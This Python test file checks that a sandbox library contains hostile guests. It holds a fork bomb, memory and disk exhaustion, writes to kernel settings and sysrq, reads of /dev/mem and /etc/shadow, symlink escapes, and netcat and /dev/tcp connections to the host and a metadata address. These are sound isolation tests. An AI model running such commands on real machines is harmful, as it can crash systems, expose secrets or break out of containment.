"""Guests that mean harm: the host stays as it was, neighbours stay quick, and every limit is told as what it is."""

import asyncio
import hashlib
import os
import socket
import statistics
import threading
import time
from contextlib import asynccontextmanager
from pathlib import Path

import pytest

from triax.errors import SandboxError
from triax.sandbox.backend.choose import make
from triax.sandbox.exchange import download, upload
from triax.sandbox.host import Host
from triax.sandbox.protocol import Resources, Spec

ISOLATED = ["namespace", "gvisor", "qemu"]
TRIES = 3
SLICE_S = 0.1  # a host disturbs short times by itself: one slice of its scheduler, for each that waits for a processor
SMALL = Resources(cpus=1.0, memory_mib=96, disk_mib=32, processes=48)
BOMB = "b() { b | b & }; b; while :; do b; sleep 0.01; done"
FLOOD = "cat /dev/zero; cat /dev/zero >&2"


@pytest.fixture(params=ISOLATED)
def kind(request):
    async def missing():
        try:
            return [check for check in await make(request.param, Path("/tmp/checks")).checks() if not check.ok]
        except SandboxError as error:
            return [error]

    if found := asyncio.run(missing()):
        pytest.skip(f"{request.param} cannot run here: {found[0]}")
    return request.param


@asynccontextmanager
async def guest(kind, root):
    host = await Host.open(root, make(kind, root / "machines"))
    try:
        yield await host.create(Spec(resources=SMALL)), host
    finally:
        for sandbox in host.sandboxes():
            await sandbox.kill()
        await host.close()


def fingerprint(*folders):
    """What lies in folders of the host, by name, size and time."""
    digest = hashlib.sha256()
    for folder in folders:
        for above, _, names in os.walk(folder):
            for name in sorted(names):
                found = os.lstat(os.path.join(above, name))
                digest.update(
                    f"{above}/{name} {found.st_size} {found.st_mtime_ns} {found.st_mode}".encode("utf-8", "replace")
                )
    return digest.hexdigest()


async def latency(sandbox, times=7):
    """The middle one of a few round trips, in seconds."""
    took = []
    for _ in range(times):
        begun = time.perf_counter()
        assert (await sandbox.exec(["true"])).exit_code == 0
        took.append(time.perf_counter() - begun)
    return statistics.median(took)


async def stays_quick(neighbour, harm):
    """Hold a neighbour's round trips beside some harm to twice what they are without; a busy host gets three tries.

    What the harm itself slows is slow each time; what something else on the host slows is not.
    """
    told = []
    for _ in range(TRIES):
        before = await latency(neighbour)
        slices = SLICE_S * max(1.0, os.getloadavg()[0] / (os.cpu_count() or 1))
        task = asyncio.ensure_future(harm())
        await asyncio.sleep(0.7)
        during = await latency(neighbour)
        (result,) = await asyncio.gather(task, return_exceptions=True)
        if during < max(2 * before, before + slices):
            return result
        told.append(f"{before:.3f} s before, {during:.3f} s beside it")
    raise AssertionError("; ".join(told))


async def is_served(neighbour, harm):
    """Hold a neighbour to being served while some harm goes on, and not when it is over; returns what came of it.

    On a busy host seven round trips may take longer than a short harm: then a longer one is tried.
    """
    for limit_s in (2.5, 10.0, 40.0):
        task = asyncio.ensure_future(harm(limit_s))
        await asyncio.sleep(0.7)
        for _ in range(7):
            assert (await neighbour.exec(["true"])).exit_code == 0
        was_beside = not task.done()
        (result,) = await asyncio.gather(task, return_exceptions=True)
        ends = [getattr(one, "outcome", "") for one in (result if isinstance(result, list) else [result])]
        if was_beside or "timeout" not in ends:  # one that ended by itself held nobody up
            return result
    raise AssertionError("a neighbour was served only when the harm was over")


async def survives(sandbox, host):
    """Bring a guest that is full of its own harm back, or tell that it failed: never anything between."""
    if sandbox.status == "running":
        (answer,) = await asyncio.gather(sandbox.exec("kill -9 -1", timeout_s=20.0), return_exceptions=True)
        assert not isinstance(answer, SandboxError) or answer.kind in ("refused", "infrastructure")
    await sandbox.kill()
    assert sandbox.status == "dead"
    fresh = await host.create(Spec(resources=SMALL))
    assert (await fresh.exec("echo fine")).stdout == b"fine\n"


@pytest.mark.soak
@pytest.mark.parametrize("harm", [BOMB, FLOOD], ids=["bomb", "flood"])
def test_neighbours_keep_half_their_speed(kind, harm, tmp_path):
    async def run():
        async with guest(kind, tmp_path) as (sandbox, host):
            neighbour = await host.create(Spec(resources=SMALL))

            async def act():
                one = sandbox if sandbox.status == "running" else await host.create(Spec(resources=SMALL))
                return await one.exec(harm, output_limit=4096, timeout_s=3.0)

            await stays_quick(neighbour, act)

    asyncio.run(run())


def test_a_fork_bomb_meets_its_limit_and_neighbours_are_served(kind, tmp_path):
    async def run():
        async with guest(kind, tmp_path) as (sandbox, host):
            neighbour = await host.create(Spec(resources=SMALL))
            threads = threading.active_count()

            async def bomb(limit_s):
                one = sandbox if sandbox.status == "running" else await host.create(Spec(resources=SMALL))
                return await one.exec(BOMB, timeout_s=limit_s)

            result = await is_served(neighbour, bomb)
            outcome = result.kind if isinstance(result, SandboxError) else result.outcome
            assert outcome in ("timeout", "ok", "out_of_memory", "infrastructure", "refused")
            assert threading.active_count() < threads + 50
            await survives(sandbox, host)

    asyncio.run(run())


def test_a_memory_balloon_bursts_alone_and_is_told_as_out_of_memory(kind, tmp_path):
    async def run():
        async with guest(kind, tmp_path) as (sandbox, host):
            neighbour = await host.create(Spec(resources=SMALL))
            balloon = "x=a; while :; do x=$x$x$x; done"
            (result,) = await asyncio.gather(sandbox.exec(balloon, timeout_s=20.0), return_exceptions=True)
            if kind == "namespace":
                assert result.outcome == "out_of_memory"
                assert "96 MiB" in result.detail
                assert (await sandbox.exec("echo on")).stdout == b"on\n", "only the balloon burst"
            else:  # a kernel of its own may refuse first, kill first, or end with its memory
                assert isinstance(result, SandboxError) or result.outcome != "ok" or result.exit_code != 0
            assert (await neighbour.exec("echo fine")).stdout == b"fine\n"

    asyncio.run(run())


def test_a_full_disk_is_the_guests_own(kind, tmp_path):
    async def run():
        async with guest(kind, tmp_path) as (sandbox, _):
            free = os.statvfs(tmp_path).f_bavail
            result = await sandbox.exec(
                "dd if=/dev/zero of=/tmp/fill bs=1024k count=4000 2>&1; echo ended", timeout_s=60.0
            )
            assert result.stdout.endswith(b"ended\n")
            assert b"o space" in result.stdout
            used = (free - os.statvfs(tmp_path).f_bavail) * os.statvfs(tmp_path).f_frsize
            assert used < 600 * 2**20, f"the host lost {used / 2**20:.0f} MiB to a disk of 32"
            with pytest.raises(SandboxError) as caught:
                await sandbox.write("/tmp/more", os.urandom(2**20))
            assert (caught.value.kind, caught.value.status) == ("refused", 507)
            await sandbox.exec("rm /tmp/fill /tmp/more")
            await sandbox.write("/tmp/small", b"fits again")
            await sandbox.exec("i=0; while [ $i -lt 9000 ]; do : > /tmp/n$i || break; i=$((i+1)); done", timeout_s=20.0)
            assert sandbox.status == "running"

    asyncio.run(run())


def test_devices_and_the_kernels_files_give_nothing_and_take_nothing(kind, tmp_path):
    marks = [Path("/proc/sys/kernel/core_pattern"), Path("/proc/sys/kernel/hostname"), Path("/proc/sys/vm/swappiness")]
    before = [mark.read_text() for mark in marks]

    async def run():
        async with guest(kind, tmp_path) as (sandbox, _):
            probe = """
            echo '|/tmp/evil' > /proc/sys/kernel/core_pattern
            echo evil > /proc/sys/kernel/hostname
            echo 1 > /proc/sys/vm/swappiness
            echo b > /proc/sysrq-trigger
            for d in mem kmem sda vda loop0 kvm port; do head -c 64 /dev/$d; done; head -c 64 /proc/kcore
            mknod /tmp/disk b 254 0 && head -c 64 /tmp/disk
            mount -t proc proc /mnt; mount -o remount,rw /usr; touch /usr/evil
            echo evil > /proc/1/oom_score_adj
            ls /sys/kernel/debug /sys/fs/cgroup
            """
            if kind != "qemu":  # whose devices and settings are its own
                result = await sandbox.exec(probe, timeout_s=20.0)
                assert result.outcome == "ok"
            inside = await sandbox.exec(
                "cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' ' '; hostname; cat /etc/shadow"
            )
            assert b"pytest" not in inside.stdout, "the host's processes are not seen"
            assert socket.gethostname().encode() not in inside.stdout.split()
            assert str(os.getpid()).encode() not in (await sandbox.exec("ls /proc")).stdout.split()
            for path in ("/proc/kcore", "/proc/sys/kernel/core_pattern", "/dev/mem"):
                with pytest.raises(SandboxError):
                    await sandbox.write(path, b"|/tmp/evil")
            assert sandbox.status == "running"

    asyncio.run(run())
    assert [mark.read_text() for mark in marks] == before
    assert not Path("/usr/evil").exists()
    assert not Path("/tmp/evil").exists()


def test_symlinks_lead_out_of_no_sandbox(kind, tmp_path):
    secret = tmp_path / "secret"
    secret.write_text("the host's own")
    before = fingerprint("/etc")

    async def run():
        async with guest(kind, tmp_path / "host") as (sandbox, _):
            trap = f"""
            mkdir -p /tmp/t && cd /tmp/t
            ln -s {secret} file; ln -s {tmp_path} folder; ln -s / root; ln -s ../../../../../../../.. up
            ln -s /proc/self/root/{secret} magic; ln -s loop loop; ln -s /etc/evil dangling
            """
            assert (await sandbox.exec(trap)).exit_code == 0
            inner = str(secret).lstrip("/")
            for path in (
                "file",
                "folder/secret",
                f"root/{inner}",
                f"up/{inner}",
                "magic",
                f"../../../../../..{secret}",
                "loop",
            ):
                with pytest.raises(SandboxError) as caught:
                    await sandbox.read(f"/tmp/t/{path}")
                assert caught.value.kind == "refused"
            for path in ("folder/evil", f"up{tmp_path}/evil", "dangling", "/../../../../etc/evil2", "root/etc/evil3"):
                wherever = path if path.startswith("/") else f"/tmp/t/{path}"
                # inside, those paths may well be made; outside, nothing may change
                await asyncio.gather(sandbox.write(wherever, b"evil"), return_exceptions=True)
            await sandbox.remove("/tmp/t/folder")
            await sandbox.rename("/tmp/t/file", "/tmp/t/moved")

    asyncio.run(run())
    assert secret.read_text() == "the host's own"
    assert sorted(path.name for path in tmp_path.iterdir()) == ["host", "secret"]
    assert fingerprint("/etc") == before, "nothing under /etc of the host changed"


def test_what_is_carried_in_and_out_stays_below_its_folder(kind, tmp_path):
    source = tmp_path / "source"
    (source / "deep/er").mkdir(parents=True)
    (source / "deep/er/file").write_bytes(b"x" * 70000)
    (source / "run.sh").write_text("#!/bin/sh\necho ran\n")
    (source / "run.sh").chmod(0o755)
    (source / "near").symlink_to("deep/er/file")
    (source / "empty").mkdir()

    async def run():
        async with guest(kind, tmp_path / "host") as (sandbox, _):
            assert await upload(sandbox, source, "/tmp/in") == 3
            assert (await sandbox.exec("/tmp/in/run.sh; wc -c < /tmp/in/near; ls /tmp/in")).stdout.split() == [
                b"ran", b"70000", b"deep", b"empty", b"near", b"run.sh",
            ]  # fmt: skip
            (source / "far").symlink_to("/etc/passwd")
            with pytest.raises(SandboxError, match="far"):
                await upload(sandbox, source, "/tmp/in2")
            back = tmp_path / "back"
            assert await download(sandbox, "/tmp/in", back) == 3
            assert (back / "deep/er/file").read_bytes() == b"x" * 70000
            assert (back / "near").readlink() == Path("deep/er/file")
            assert os.access(back / "run.sh", os.X_OK)
            await sandbox.exec("ln -s /etc/passwd /tmp/in/out; ln -s ../../../../etc /tmp/in/deep/up")
            with pytest.raises(SandboxError, match="leads out"):
                await download(sandbox, "/tmp/in", tmp_path / "back2")
            assert not (tmp_path / "back2").exists(), "nothing of it was kept"
            # each of the two stays inside by its words, and the second leads out by way of the first
            await sandbox.exec("cd /tmp/in; rm out deep/up; ln -s ../.. deep/er/top; ln -s deep/er/top/.. secret")
            with pytest.raises(SandboxError, match=r"secret.*leads out"):
                await download(sandbox, "/tmp/in", tmp_path / "back2")
            await sandbox.exec("cd /tmp/in; rm secret; ln -s ../deep/er/../run.sh deep/winding")
            with pytest.raises(SandboxError, match=r"winding.*leads out"):
                await download(sandbox, "/tmp/in", tmp_path / "back2")
            await sandbox.exec("rm /tmp/in/deep/winding")
            assert await download(sandbox, "/tmp/in", tmp_path / "back2") == 4
            await sandbox.exec("head -c 5000000 /dev/zero > /tmp/in/big")
            with pytest.raises(SandboxError, match="most_bytes"):
                await download(sandbox, "/tmp/in", tmp_path / "back3", most_bytes=2**20)

    asyncio.run(run())


def test_names_with_control_characters_are_plain_names(kind, tmp_path):
    async def run():
        async with guest(kind, tmp_path) as (sandbox, _):
            names = ["\x1b[2J\x1b]0;owned\x07", "new\nline", "tab\t", "-rf", "\u202egnp.exe", "a b", "..."]
            for number, name in enumerate(names):
                await sandbox.write(f"/tmp/names/{name}", str(number).encode())
            await sandbox.exec(["sh", "-c", "cd /tmp/names && : > \"$(printf 'bad\\377utf')\""])
            listed = {os.path.basename(entry.path): entry for entry in await sandbox.list("/tmp/names")}
            assert set(names) < set(listed)
            assert any("bad" in name for name in listed)
            for number, name in enumerate(names):
                assert await sandbox.read(f"/tmp/names/{name}") == str(number).encode()
                await sandbox.remove(f"/tmp/names/{name}")

    asyncio.run(run())


def test_nothing_outside_is_reached(kind, tmp_path):
    heard = []
    with socket.socket() as listener:
        listener.bind(("0.0.0.0", 0))
        listener.listen()
        listener.settimeout(0.1)
        port = listener.getsockname()[1]
        own = socket.gethostbyname(socket.gethostname())

        async def run():
            async with guest(kind, tmp_path) as (sandbox, _):
                attempt = f"""
                for h in 127.0.0.1 {own} 10.0.2.2 169.254.169.254 8.8.8.8; do
                    (echo evil | timeout 2 busybox nc -w 1 $h {port}) 2>&1
                    (timeout 2 sh -c "exec 3<>/dev/tcp/$h/{port} && echo evil >&3") 2>&1
                done
                call="import socket; socket.create_connection(('{own}', {port}), 1).send(b'evil')"
                (timeout 2 python3 -c "$call") 2>&1
                ls /run/*.sock /var/run/docker.sock 2>&1
                """
                result = await sandbox.exec(attempt, timeout_s=60.0)
                assert result.outcome in ("ok", "timeout")

        asyncio.run(run())
        try:
            while True:
                connection, _ = listener.accept()
                heard.append(connection.recv(10))
                connection.close()
        except TimeoutError:
            pass
    assert heard == [], "a guest spoke to the host"


def test_floods_of_output_cost_the_host_little(kind, tmp_path):
    async def run():
        async with guest(kind, tmp_path) as (sandbox, host):
            neighbour = await host.create(Spec(resources=SMALL))
            shares = []

            async def flood(limit_s):
                floods = [
                    asyncio.ensure_future(sandbox.exec(FLOOD, output_limit=4096, timeout_s=limit_s)) for _ in range(3)
                ]
                await asyncio.sleep(0.5)
                spent, begun = time.process_time(), time.monotonic()
                await asyncio.sleep(1.0)
                shares.append((time.process_time() - spent) / (time.monotonic() - begun))
                return await asyncio.gather(*floods)

            results = await is_served(neighbour, flood)
            assert not isinstance(results, BaseException), results
            assert [result.outcome for result in results] == ["timeout"] * 3
            assert all(result.truncated and len(result.stdout) == 4096 for result in results)
            share = min(shares)
            assert share < 0.9, "the host reads floods all day"

    asyncio.run(run())
